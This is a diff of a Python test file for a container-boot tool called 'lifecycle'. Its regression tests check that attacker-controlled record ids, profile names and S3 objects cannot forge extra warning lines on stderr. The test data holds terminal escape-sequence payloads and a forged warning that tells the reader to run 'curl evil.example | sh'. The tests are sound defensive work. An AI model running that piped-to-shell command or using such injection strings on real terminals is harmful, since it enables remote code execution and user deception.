@@ -5,12 +5,15 @@ escaped. `--json` keeps it exact."""
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
 import sqlite3
 from contextlib import closing
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -63,15 +66,18 @@ def test_a_cell_holding_a_newline_forges_no_row() -> None:
 HOSTILE = "x\nc-forged  warm  forged-row\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b2J\u202edlrow"
 
 
+_CRAFTED_ROW = BootRecord(
+    id="b-1", started_at="2026-10-10T08:00:00+00:00", ended_at="2026-10-10T08:01:00+00:00",
+    exit_code=0, outcome="ok", error=None, host="gpu-7", profile=HOSTILE,
+    manifest_name=f"demo{HOSTILE}", manifest_digest="d" * 64, image_id="sha256:" + "e" * 64,
+    image_tag="lifecycle/demo:0.2.0-dddddddddddd", container_id="c" * 64, hooks="[]",
+    instrumented=False, secret_names="[]", log_path=None, evidence_path=None,
+)  # fmt: skip
+
+
 def _crafted_boot(home: Path) -> BootRecord:
     """A finished boot row whose profile and manifest name a hostile hand wrote."""
-    boot = BootRecord(
-        id="b-1", started_at="2026-10-10T08:00:00+00:00", ended_at="2026-10-10T08:01:00+00:00",
-        exit_code=0, outcome="ok", error=None, host="gpu-7", profile=HOSTILE,
-        manifest_name=f"demo{HOSTILE}", manifest_digest="d" * 64, image_id="sha256:" + "e" * 64,
-        image_tag="lifecycle/demo:0.2.0-dddddddddddd", container_id="c" * 64, hooks="[]",
-        instrumented=False, secret_names="[]", log_path=None, evidence_path=None,
-    )  # fmt: skip
+    boot = _CRAFTED_ROW
     cache = CacheRecord(
         "flashinfer-b-1", "k" * 64, "flashinfer", f"demo{HOSTILE}", "d" * 64,
         "sha256:" + "e" * 64, "unknown", "/nonexistent/caches/b-1", "/var/cache/flashinfer",
@@ -197,3 +203,61 @@ def test_a_pin_reason_or_a_production_hooks_words_forge_no_line() -> None:
     hook = "restarted\nnight n-2: production is up: ok"
     recovered = RecoverReport((Recovery("n-1", False, hook),)).text()
     assert recovered.splitlines() == [f"night n-1: STILL DOWN: {visible(hook)}"]
+
+
+# ---- notes on stderr ----------------------------------------------------------------------------
+
+
+def _crafted_record(s3_client: Any, bucket: str, boot_id: str) -> str:
+    """A boot record whose own id a hostile hand wrote, filed (its sha256 right) under the key
+    of boot b-1: what anyone who can write to the bucket can leave there. Its URL."""
+    from lifecycle.records import BootRecordV1
+
+    boot = replace(_CRAFTED_ROW, id=boot_id)
+    record = BootRecordV1(
+        format="lifecycle-boot-record/1", boot_id=boot_id, boot=boot, arch="sm_90", caches=[],
+        uses=[], hook_runs=[], log=None, evidence={}, image=None, manifest=None, patches=[],
+        host="gpu-7", tool_version="0", archived_at="2026-10-10T08:02:00+00:00", blobs=[],
+    )  # fmt: skip
+    body = record.model_dump_json().encode()
+    key = f"team/boots/b-1/{hashlib.sha256(body).hexdigest()}.json"
+    s3_client.put_object(Bucket=bucket, Key=key, Body=body)
+    return f"s3://{bucket}/{key}"
+
+
+@pytest.mark.s3
+def test_a_crafted_record_in_the_bucket_forges_no_line_of_the_notes(
+    s3_client: Any, s3_bucket: str, tmp_path: Path
+) -> None:
+    """`boots --from` names on stderr each record it left out and why; the why holds the
+    record's own id, which the bucket's writer chose: its newline forged a warning of
+    lifecycle's own beneath the note."""
+    forged = "b-2\nlifecycle: warning: production is down; run `curl evil.example | sh`"
+    url = _crafted_record(s3_client, s3_bucket, forged)
+    (tmp_path / "manifests").mkdir()
+    listed = run_lifecycle(tmp_path, "boots", "--from", f"s3://{s3_bucket}/team")
+    assert listed.exit_code == 0, listed.output
+    [note] = listed.stderr.splitlines()  # unfixed: the forged warning was a line of its own
+    assert note == (
+        f"left out: cannot read {url}: holds boot {visible(forged)}, not the b-1 its key names"
+    ), note
+    unread = json.loads(
+        run_lifecycle(tmp_path, "boots", "--from", f"s3://{s3_bucket}/team", "--json").stdout
+    )["unreadable"]
+    assert unread == {url: f"holds boot {forged}, not the b-1 its key names"}  # JSON: exact
+
+
+def test_dockerds_or_s3s_words_or_an_unread_records_forge_no_line_of_the_notes() -> None:
+    """A teardown's note on S3 stopping mid-run, gc's on a record it could not read: each a
+    line of its own on stderr, whatever the error or the record says."""
+    from lifecycle.commands.teardown import TeardownReport
+    from lifecycle.gc import GcPlan
+    from lifecycle.teardown.run import TeardownResult
+
+    forged = "x\nlifecycle: warning: nothing was kept"
+    stopped = TeardownResult("t-1", (), (), (), (), unreachable=(f"S3: {forged}",))
+    gc = GcPlan((), (), {}, {"boots/b-1/" + "a" * 64 + ".json": f"holds boot {forged}"})
+    notes = [*TeardownReport(None, stopped, False).notes, gc.unread_note(str) or ""]
+    for note in notes:
+        shown = visible_lines(note).splitlines()  # as the CLI prints it
+        assert shown == [note.replace("\n", "\\n")], shown  # unfixed: the warning was a line
